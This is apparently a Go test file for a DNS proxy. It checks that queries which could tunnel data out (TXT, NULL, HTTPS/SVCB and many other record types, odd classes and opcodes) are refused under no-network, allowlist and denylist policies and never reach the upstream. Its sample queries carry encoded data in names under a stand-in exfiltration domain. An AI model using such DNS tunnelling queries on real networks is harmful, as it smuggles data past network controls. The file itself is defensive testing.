package proxy

// Advisory-driven DNS tests: queries that carry data out in their name (DNS tunnels
// such as iodine and dnscat2 use TXT, NULL, CNAME, MX and more, not only A) and record
// types that carry addresses past an A/AAAA-only filter (HTTPS/SVCB ipv4hint and
// ipv6hint: celzero/rethink-app issue 3072, a wildcard block
// bypassed through HTTPS queries; pymumu/smartdns issue 2466).
// What the policy refuses is REFUSED whatever the type, class, opcode, transport or EDNS
// options, and never reaches the upstream.

import (
	"fmt"
	"net"
	"strings"
	"testing"

	"github.com/miekg/dns"
)

// Every type a tunnel or an address hint could use, over UDP and TCP with EDNS options,
// under no-network, an allowlist (also one with an address rule, whose A/AAAA lookups
// are the documented exception) and a denylist; then the other classes and opcodes.
func TestDNSAdvisoryRefusedQueriesNeverLeave(t *testing.T) {
	h := newHarness(t)
	tunnelTypes := []uint16{
		dns.TypeTXT, dns.TypeNULL, dns.TypeANY, dns.TypeHTTPS, dns.TypeSVCB, dns.TypeRRSIG,
		dns.TypeDNSKEY, dns.TypeDS, dns.TypeAXFR, dns.TypeIXFR, dns.TypePTR, dns.TypeCNAME,
		dns.TypeDNAME, dns.TypeMX, dns.TypeSRV, dns.TypeNS, dns.TypeSOA, dns.TypeCAA,
		dns.TypeNAPTR, dns.TypeSSHFP, dns.TypeTLSA, dns.TypeURI, 65280, // private use
	}
	addrTypes := []uint16{dns.TypeA, dns.TypeAAAA}
	policies := []struct {
		doc   string
		types []uint16
	}{
		{`"no-network"`, append(addrTypes, tunnelTypes...)},
		{`{"network_mode":"allowlist","allowed_hosts":["a.test"]}`, append(addrTypes, tunnelTypes...)},
		// A name allowed only through an address rule is looked up for A and AAAA
		// (documented as a channel); for any other type it is refused.
		{`{"network_mode":"allowlist","allowed_hosts":["10.9.9.0/24","a.test"]}`, tunnelTypes},
		{`{"network_mode":"denylist","denied_hosts":["*.exfil.test"]}`, append(addrTypes, tunnelTypes...)},
	}
	ask := func(m *dns.Msg, network string) (*dns.Msg, error) {
		resp, _, err := (&dns.Client{Net: network, Timeout: hangGuard}).Exchange(m, h.srv.DNSAddr().String())
		return resp, err
	}
	refused := func(t *testing.T, what string, resp *dns.Msg, err error) {
		t.Helper()
		if err != nil {
			t.Errorf("%s: %v", what, err)
			return
		}
		if code, ok := ede(resp); resp.Rcode != dns.RcodeRefused || !ok || code != dns.ExtendedErrorCodeBlocked || len(resp.Answer)+len(resp.Ns) != 0 {
			t.Errorf("%s: %s with EDE %d/%v and %d records, want REFUSED with EDE 15 and nothing else",
				what, dns.RcodeToString[resp.Rcode], code, ok, len(resp.Answer)+len(resp.Ns))
		}
	}
	for i, p := range policies {
		h.apply(p.doc)
		for _, network := range []string{"udp", "tcp"} {
			for _, qtype := range p.types {
				m := new(dns.Msg)
				m.SetQuestion(fmt.Sprintf("p%d-%s-%d.c2VjcmV0.exfil.test.", i, network, qtype), qtype)
				m.CheckingDisabled = true
				m.SetEdns0(1232, true)
				opt := m.IsEdns0()
				opt.Option = append(opt.Option,
					&dns.EDNS0_SUBNET{Code: dns.EDNS0SUBNET, Family: 1, SourceNetmask: 24, Address: net.IPv4(192, 0, 2, 0)},
					&dns.EDNS0_PADDING{Padding: make([]byte, 64)})
				resp, err := ask(m, network)
				refused(t, fmt.Sprintf("%s %s %s", p.doc, network, dns.TypeToString[qtype]), resp, err)
			}
		}
	}
	// Not a plain IN QUERY: refused under no-network as under every policy.
	h.apply(`"no-network"`)
	odd := map[string]func(m *dns.Msg){
		"class ANY":      func(m *dns.Msg) { m.Question[0].Qclass = dns.ClassANY },
		"class NONE":     func(m *dns.Msg) { m.Question[0].Qclass = dns.ClassNONE },
		"class HESIOD":   func(m *dns.Msg) { m.Question[0].Qclass = dns.ClassHESIOD },
		"opcode IQUERY":  func(m *dns.Msg) { m.Opcode = dns.OpcodeIQuery },
		"opcode STATUS":  func(m *dns.Msg) { m.Opcode = dns.OpcodeStatus },
		"opcode NOTIFY":  func(m *dns.Msg) { m.Opcode = dns.OpcodeNotify },
		"opcode UPDATE":  func(m *dns.Msg) { m.Opcode = dns.OpcodeUpdate },
		"opcode 6 (DSO)": func(m *dns.Msg) { m.Opcode = 6 },
	}
	for name, twist := range odd {
		for _, network := range []string{"udp", "tcp"} {
			m := new(dns.Msg)
			m.SetQuestion("odd.c2VjcmV0.exfil.test.", dns.TypeTXT)
			m.SetEdns0(1232, false)
			twist(m)
			resp, err := ask(m, network)
			refused(t, "no-network "+name+" "+network, resp, err)
		}
	}
	for _, m := range h.dns.seenMsgs() {
		if strings.HasSuffix(strings.ToLower(m.Question[0].Name), "exfil.test.") {
			t.Errorf("a refused query reached the upstream: %s", m.Question[0].String())
		}
	}
}
